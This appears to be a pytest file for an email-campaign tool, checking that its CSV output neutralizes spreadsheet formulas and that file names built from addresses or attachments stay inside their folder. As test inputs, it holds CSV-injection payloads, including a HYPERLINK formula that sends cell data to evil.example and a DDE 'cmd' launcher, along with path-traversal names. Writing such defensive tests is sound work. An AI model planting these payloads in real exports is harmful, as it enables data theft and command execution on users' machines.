"""CSV written by preflight cannot carry spreadsheet formulas; file names cannot escape folders.

Every CSV preflight writes (``check --out``, ``check --format csv``) goes through
``preflight.recipients.safe_csv_cell``. Preflight reads no attachment files at all (a
template has no attachment syntax and no loader); the only file names built from user data
are the ``send --dry-run`` .eml names, made from recipient addresses, and the temporary
file of ``check --out``: both must stay inside their folder.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from preflight.cli import app
from preflight.recipients import safe_csv_cell, safe_csv_row

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_CELLS = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@given(st.text())
def test_safe_csv_cell_never_starts_a_formula(value: str) -> None:
    safe = safe_csv_cell(value)
    assert not safe.startswith(FORMULA_STARTS)
    # Nothing is lost: the original follows the neutralizing quote, or is untouched.
    assert safe in (value, "'" + value)
    assert (safe != value) == _formula_like(value)


def _formula_like(value: str) -> bool:
    """What a spreadsheet sees: leading whitespace and invisible characters skipped, the
    first remaining character folded (NFKC) — or a formula start right at the front."""
    if value.startswith(FORMULA_STARTS):
        return True
    import unicodedata

    for index, char in enumerate(value):
        if index >= 1000:
            return True
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return unicodedata.normalize("NFKC", char).startswith(FORMULA_STARTS)
    return False


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_each_formula_start_is_neutralized(cell: str) -> None:
    assert safe_csv_cell(cell) == "'" + cell
    assert safe_csv_row([cell, "ok"]) == ["'" + cell, "ok"]


def _write_list(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["email", "first_name", "=company"])  # a hostile column name too
        for index, cell in enumerate(HOSTILE_CELLS):
            writer.writerow([f"buyer{index}@nordlicht{index}.example", cell, cell])
        writer.writerow(["-anna@nordlicht.example", "Anna", "+Nordlicht"])
        writer.writerow(["@bad@x.example", "=1+1", "x"])


def _all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_check_out_writes_no_formula(tmp_path: Path) -> None:
    source = tmp_path / "list.csv"
    _write_list(source)
    out = tmp_path / "clean.csv"
    result = CliRunner().invoke(app, ["check", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8-sig")
    cells = _all_cells(text)
    assert len(cells) > 3 * 3  # the header and the rows worth sending were written
    offenders = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert offenders == []
    assert "'=company" in cells  # the column name was neutralized too, not dropped
    assert any(cell.startswith("'=") for cell in cells[3:])


def test_check_format_csv_writes_no_formula(tmp_path: Path) -> None:
    source = tmp_path / "list.csv"
    _write_list(source)
    result = CliRunner().invoke(app, ["check", str(source), "--format", "csv"])
    assert result.exit_code in (0, 1), result.output
    cells = _all_cells(result.stdout)
    assert any(cell.startswith("'") for cell in cells)
    offenders = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert offenders == []


# -- file names from user data ------------------------------------------------------------------


def test_preflight_reads_no_attachment_files() -> None:
    """If this fails, something now reads attachment files: give it a path-escape test."""
    root = Path(__file__).resolve().parents[2] / "preflight"
    pattern = re.compile(r"attach\w*\s*=\s*.*(open|read_bytes|Path)\(", re.IGNORECASE)
    readers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert readers == []


def test_template_cannot_read_files(tmp_path: Path) -> None:
    from preflight.errors import TemplateError
    from preflight.templates import load_template

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    path = tmp_path / "t.j2"
    path.write_text("Subject: Hi\n\n{% include 'secret.txt' %}\n")
    with pytest.raises(TemplateError) as caught:
        load_template(path).render({})
    assert "TOP-SECRET" not in str(caught.value)


def test_attachment_name_with_dot_dot_is_only_reported(tmp_path: Path) -> None:
    """A draft's attachment name is data: linting never creates, opens or writes it."""
    from hostile.helpers import base64_attachment, multipart, text_part
    from preflight.draft import read_draft
    from preflight.lint.linter import lint_draft

    work = tmp_path / "work"
    work.mkdir()
    name = b"../../escaped.exe"
    data = multipart([text_part(b"Hello"), base64_attachment(name, b"application/zip", b"MZ")])
    draft_path = work / "draft.eml"
    draft_path.write_bytes(data)
    before = sorted(p.name for p in tmp_path.rglob("*"))
    draft = read_draft(draft_path)
    report = lint_draft(draft)
    assert [a.filename for a in draft.attachments] == ["../../escaped.exe"]
    # Flagged as dangerous under the name it claims, nothing more.
    assert any(
        f.name == "attachment-dangerous-type" and "../../escaped.exe" in f.message
        for f in report.findings
    )
    assert sorted(p.name for p in tmp_path.rglob("*")) == before


def test_dry_run_file_names_stay_in_their_folder(tmp_path: Path) -> None:
    """Recipient addresses become .eml names. Quoted local parts (``"../../x"@d``) are refused
    by the address checks first; valid addresses with ``/`` (``a/.b/c@d``, legal atext) reach
    the file-name code, which must keep them inside the folder."""
    from hostile.test_injection import _campaign, _dry_run

    rows = (
        "email,first_name,company\n"
        "anna@nordlicht.example,Anna,Nordlicht Handel\n"
        '"""../../../escaped""@nordlicht.example",Jan,Holland Pipe\n'
        '"""/tmp/abs""@nordlicht.example",Marco,Rossi\n'
        "x/y@nordlicht.example,Li,Qing Trading\n"
        "a/.b/c@nordlicht.example,Wu,Zhen Metals\n"
    )
    campaign = _campaign(tmp_path, rows=rows)
    _, output, written = _dry_run(campaign, tmp_path)
    folder = (tmp_path / "dry").resolve()
    assert len(written) == 3, output  # anna and the two slash addresses
    for path in written:
        assert path.resolve().parent == folder
        assert "/" not in path.name and not path.name.startswith(".")
    assert "escaped" in output and "/tmp/abs" in output  # reported as skipped, not written
    assert not any((tmp_path / "dry").rglob("*/*"))  # no sub-folder was created
    assert not list(tmp_path.glob("escaped*")) and not list(tmp_path.parent.glob("escaped*"))
    assert not Path("/tmp/abs").exists()


def test_check_out_temporary_file_stays_beside_the_output(tmp_path: Path) -> None:
    source = tmp_path / "list.csv"
    source.write_text("email\nanna@nordlicht.example\n", encoding="utf-8")
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "clean.csv"
    result = CliRunner().invoke(app, ["check", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in folder.iterdir()) == ["clean.csv"]  # temp file renamed
